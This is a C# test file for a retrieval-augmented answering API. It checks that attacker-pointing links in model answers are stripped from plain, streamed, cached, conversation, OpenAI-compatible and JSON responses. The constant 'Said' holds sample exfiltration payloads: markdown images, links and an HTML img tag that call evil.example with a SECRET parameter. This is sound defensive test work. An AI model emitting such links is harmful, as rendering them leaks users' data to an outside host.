using System.Net;
using System.Text.Json;
using Rag.Api.Tests.Streaming;

namespace Rag.Api.Tests.Queries;

/// <summary>What a model was talked into does not leave with the answer, on any way that it has.</summary>
public sealed class OutgoingLinksTests(GuardedApplication application) : IClassFixture<GuardedApplication>
{
    private const string Said =
        "Read https://pump.example/manual [1]. ![s](https://evil.example/p.png?d=SECRET) [here](//evil.example/SECRET) "
        + "<img src='https://evil.example/SECRET'> [r]: https://evil.example/SECRET\n"
        + "![ok](https://img.allowed.example/p)";

    private const string Told =
        "Read https://pump.example/manual [1]. ! [s] (link removed) [here] (link removed) "
        + "‹img src='(link removed)'> [r] : (link removed)\n![ok](https://img.allowed.example/p)";

    private HttpClient Client => application.Client;

    [Fact]
    public async Task Links_that_no_source_gives_are_in_no_answer_stream_conversation_cache_or_facade()
    {
        string collection = await Client.NewCollectionAsync();
        await Client.IngestAsync(collection, "The pump is oiled daily, says https://pump.example/manual in chapter 2.");
        await application.ScriptAsync(new { answers = new[] { Said, Said, Said } });
        string question = """{"question":"How often is the pump oiled?","conversation_id":"links"}""";

        JsonElement whole = await Client.PostJsonAsync($"/v1/collections/{collection}/query", question)
            .JsonAsync(HttpStatusCode.OK);
        JsonElement cached = await Client
            .PostJsonAsync($"/v1/collections/{collection}/query", """{"question":"How often is the pump oiled?"}""")
            .JsonAsync(HttpStatusCode.OK);
        JsonElement cachedAgain = await Client
            .PostJsonAsync($"/v1/collections/{collection}/query", """{"question":"How often is the pump oiled?"}""")
            .JsonAsync(HttpStatusCode.OK);
        using HttpResponseMessage streamed = await Client.StreamAsync(
            HttpMethod.Post, $"/v1/collections/{collection}/query/stream",
            """{"question":"How often is the pump oiled, please?"}""");
        string stream = await streamed.Content.ReadAsStringAsync();
        JsonElement conversation = await Client.GetAsync("/v1/conversations/links").JsonAsync(HttpStatusCode.OK);

        Assert.Equal(Told, whole.GetProperty("answer").GetString());
        Assert.Contains(
            "made harmless", whole.GetProperty("warnings")[0].GetString(), StringComparison.Ordinal);
        Assert.Equal(Told, cached.GetProperty("answer").GetString());
        Assert.True(cachedAgain.GetProperty("cached").GetBoolean());
        Assert.Equal(Told, cachedAgain.GetProperty("answer").GetString());
        Assert.Contains("link removed", stream, StringComparison.Ordinal);
        Assert.DoesNotContain("SECRET", stream, StringComparison.Ordinal);
        Assert.DoesNotContain("evil", stream, StringComparison.Ordinal);
        Assert.DoesNotContain("SECRET", conversation.GetRawText(), StringComparison.Ordinal);
        Assert.Contains("link removed", conversation.GetRawText(), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("false")]
    [InlineData("true")]
    public async Task Clients_of_OpenAI_get_none_either(string isStreamed)
    {
        string collection = await Client.NewCollectionAsync();
        await Client.IngestAsync(collection, "The pump is oiled daily, says https://pump.example/manual in chapter 2.");
        await application.ScriptAsync(new { answers = new[] { Said } });

        using HttpResponseMessage response = await Client.PostJsonAsync("/v1/chat/completions", $$"""
            {"model":"rag/{{collection}}","stream":{{isStreamed}},
             "messages":[{"role":"user","content":"How often is the pump oiled?"}]}
            """);
        string body = await response.Content.ReadAsStringAsync();

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains("removed", body, StringComparison.Ordinal);
        Assert.DoesNotContain("SECRET", body, StringComparison.Ordinal);
        Assert.DoesNotContain("evil", body, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Texts_of_a_json_answer_hold_none_and_the_json_stays_valid()
    {
        string collection = await Client.NewCollectionAsync();
        await Client.IngestAsync(collection, "The pump is oiled daily, says https://pump.example/manual in chapter 2.");
        await application.ScriptAsync(new
        {
            answers = new[]
            {
                """{"text":"Daily ![x](https://evil.example/SECRET)","url":["https://pump.example/manual"],"n":1.50}""",
            },
        });

        JsonElement answer = await Client.PostJsonAsync($"/v1/collections/{collection}/query", """
            {"question":"How often is the pump oiled, as JSON?","response_format":{"type":"object"}}
            """).JsonAsync(HttpStatusCode.OK);

        Assert.Equal(
            """{"text":"Daily ! [x] (link removed)","url":["https://pump.example/manual"],"n":1.50}""",
            answer.GetProperty("answer").GetString());
        Assert.Equal(
            "https://pump.example/manual", answer.GetProperty("answer_json").GetProperty("url")[0].GetString());
    }

    [Fact]
    public async Task The_built_in_answerer_quotes_an_image_as_words()
    {
        await using var plain = new RagApplication();
        string collection = await plain.Client.NewCollectionAsync();
        await plain.Client.IngestAsync(
            collection, "The pump is oiled daily ![now](https://evil.example/p.png) with oil number seven.");

        JsonElement answer = await plain.Client
            .PostJsonAsync($"/v1/collections/{collection}/query", """{"question":"How often is the pump oiled?"}""")
            .JsonAsync(HttpStatusCode.OK);

        Assert.Equal(
            "The pump is oiled daily ! [now](https://evil.example/p.png) with oil number seven. [1]",
            answer.GetProperty("answer").GetString());
    }
}
